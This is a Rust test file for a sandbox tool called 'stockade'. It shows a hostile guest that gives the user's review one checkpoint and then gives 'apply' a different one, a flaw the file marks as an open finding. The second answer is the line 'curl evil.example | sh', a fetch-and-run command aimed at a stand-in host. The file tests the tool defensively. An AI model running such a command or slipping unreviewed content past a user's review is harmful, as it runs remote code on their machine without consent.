//! Attacks on the review of a running session through the commands a user
//! types: a hostile guest answers each checkpoint as it likes.

use std::fs;
use std::io::BufReader;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::sync::{Arc, Mutex, mpsc};

use super::apply::{ApplyArgs, execute as apply};
use super::diff::{DiffArgs, execute as diff};
use super::sessions::fixture::*;
use crate::protocol::auth::{DigestWriter, TOKEN_LEN, Token};
use crate::protocol::change_set::{Base, RelPath, Writer};
use crate::protocol::{CHECKPOINT_PORT, CheckpointOutcome, ExportOutcome, HostMsg, read_frame};
use crate::supervisor::live;
use crate::supervisor::session::{Session, sessions_dir};

const ID: &str = "20250301-101500-aaaa";

/// A running session whose guest answers its n-th checkpoint with
/// `a.txt` holding `answers[n]`, as a hostile init may.
struct Running {
    _session: Session,
    _server: live::Server,
    _init: std::thread::JoinHandle<()>,
}

fn running(f: &Fixture, answers: &'static [&'static [u8]]) -> Running {
    session(f, ID, |_, _| {});
    let dir = sessions_dir(&f.data).join(ID);
    // Holding the run lock is what makes a session read as running.
    let held = Session::resume(&dir, ID, std::time::SystemTime::now()).unwrap();
    let (host, guest) = UnixStream::pair().unwrap();
    let token = Token::from_bytes([7; TOKEN_LEN]);
    let (answered, relayed) = mpsc::sync_channel(4);
    let served = live::Guest {
        writer: Arc::new(Mutex::new(host)),
        token: token.clone(),
        tampering: Default::default(),
        answers: relayed,
    };
    let server = live::serve(&dir, served).unwrap();
    let socket = crate::protocol::broker::socket_path(&dir.join("v.sock"), CHECKPOINT_PORT);
    let init = std::thread::spawn(move || {
        let mut requests = BufReader::new(guest);
        for content in answers {
            let Ok(HostMsg::Checkpoint { id }) = read_frame(&mut requests) else { return };
            let mut conn = UnixStream::connect(&socket).unwrap();
            token.present(&mut conn).unwrap();
            let mut w = Writer::new(DigestWriter::new(conn)).unwrap();
            let path = RelPath::new(b"a.txt").unwrap();
            w.file(&path, 0o644, content.len() as u64, &mut &content[..], &Base::Absent).unwrap();
            let (out, summary) = w.finish().unwrap();
            let (conn, stream) = out.finish();
            conn.shutdown(std::net::Shutdown::Write).unwrap();
            let outcome = ExportOutcome::Sent { entries: 1, files: 1, bytes: summary.bytes, skipped: 0, stream };
            answered.send(CheckpointOutcome { id, outcome }).unwrap();
        }
    });
    Running { _session: held, _server: server, _init: init }
}

fn text(path: &Path) -> String {
    String::from_utf8_lossy(&fs::read(path).unwrap_or_default()).into_owned()
}

/// `stockade diff` shows the user one checkpoint; `stockade apply` right
/// after asks the guest for another and writes whatever that holds, so a
/// guest that answers the second ask differently lands content the user
/// never saw. What lands must be what was reviewed.
#[test]
#[ignore = "finding: apply on a running session lands a fresh checkpoint, not the one `diff` showed"]
fn apply_on_a_running_session_lands_only_what_diff_showed() {
    let f = fixture();
    let _run = running(&f, &[b"reviewed and fine\n", b"curl evil.example | sh\n"]);

    let (code, shown, _) = run_in(&f, &f.ws, parse::<DiffArgs>(&["--patch", ID]), diff);
    code.unwrap();
    assert!(shown.contains("reviewed and fine"), "{shown}");
    assert!(!shown.contains("evil.example"), "{shown}");

    let (code, _, err) = run_in(&f, &f.ws, parse::<ApplyArgs>(&[ID]), apply);
    code.unwrap();
    let landed = text(&f.ws.join("a.txt"));
    assert!(!landed.contains("evil.example"), "apply wrote content `stockade diff` never showed: {landed:?} ({err})");
}
